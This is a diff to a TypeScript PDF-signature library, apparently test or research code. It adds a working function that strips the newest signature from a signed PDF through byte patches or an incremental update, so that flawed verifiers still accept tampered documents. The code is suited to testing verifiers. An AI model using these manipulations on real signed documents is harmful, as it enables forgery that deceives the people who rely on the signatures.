@@ -1323,6 +1323,66 @@ export function pointXrefEntry(pdf: Uint8Array, num: number, offset: number): Ui
 }
 
 // ---------------------------------------------------------------------------------------------
+// Attacks: taking the newest signature out of the form (earlier signatures stay intact)
+// ---------------------------------------------------------------------------------------------
+
+export type StripVariant = 'v-renamed' | 'ft-changed' | 'v-dangling' | 'field-removed';
+export const STRIP_VARIANTS: StripVariant[] = ['v-renamed', 'ft-changed', 'v-dangling', 'field-removed'];
+
+/**
+ * Makes the newest signature of `signed` disappear as a signature: one byte of its field changed in
+ * place (/V renamed, /FT no longer /Sig, /V pointing at a missing object), or an update that drops
+ * the field from /Fields and /Annots. A verifier that simply stops seeing it reports the earlier
+ * signatures valid although signed bytes changed.
+ */
+export function stripNewestSignature(signed: Uint8Array, variant: StripVariant): Uint8Array {
+  const doc = PdfDocument.load(signed);
+  const view = doc.latest;
+  const sigs = listFields(view).filter((f) => f.type === 'Sig' && f.dict.get('V') instanceof PdfRef && f.ref);
+  const newest = sigs.sort(
+    (a, b) =>
+      view.offsetOf((b.dict.get('V') as PdfRef).num)! - view.offsetOf((a.dict.get('V') as PdfRef).num)!,
+  )[0]!;
+  const off = view.offsetOf(newest.ref!.num)!;
+  const patch = (needle: string, replacement: string): Uint8Array => {
+    const at = indexOfBytes(signed, latin1Bytes(needle), off);
+    if (at < 0 || replacement.length !== needle.length) throw new Error(`cannot patch ${needle}`);
+    const out = signed.slice();
+    out.set(latin1Bytes(replacement), at);
+    return out;
+  };
+  const v = newest.dict.get('V') as PdfRef;
+  switch (variant) {
+    case 'v-renamed':
+      return patch(`/V ${v.num} 0 R`, `/W ${v.num} 0 R`);
+    case 'ft-changed':
+      return patch('/FT /Sig', '/FT /Sjg');
+    case 'v-dangling': {
+      const missing = String(view.size + 7)
+        .padStart(String(v.num).length, '9')
+        .slice(-String(v.num).length);
+      if (view.entries.has(Number(missing))) throw new Error('no free number of the same width');
+      return patch(`/V ${v.num} 0 R`, `/V ${missing} 0 R`);
+    }
+    case 'field-removed':
+      return update(signed, (u) => {
+        const acro = u.acroForm();
+        const fields = acro.get('Fields');
+        const drop = (a: PdfObject[]) => a.filter((x) => !(x instanceof PdfRef && x.num === newest.ref!.num));
+        if (fields instanceof PdfRef) u.set(fields, drop(u.view.array(fields) ?? []));
+        else acro.set('Fields', drop((fields as PdfObject[]) ?? []));
+        for (const [i, p] of u.pages().entries()) {
+          const annots = p.dict.get('Annots');
+          const arr = u.view.array(annots);
+          if (!arr?.some((x) => x instanceof PdfRef && x.num === newest.ref!.num)) continue;
+          if (annots instanceof PdfRef) u.set(annots, drop(arr));
+          else u.editDict(u.page(i).ref).set('Annots', drop(arr));
+        }
+      });
+  }
+}
+
+// ---------------------------------------------------------------------------------------------
 // Attacks: shadow hide / replace / hide-and-replace (Mainka et al., 2021)
 // The "prepare" step runs BEFORE signing (the attacker authors the document that gets signed);
 // the "reveal" step is the update after signing.
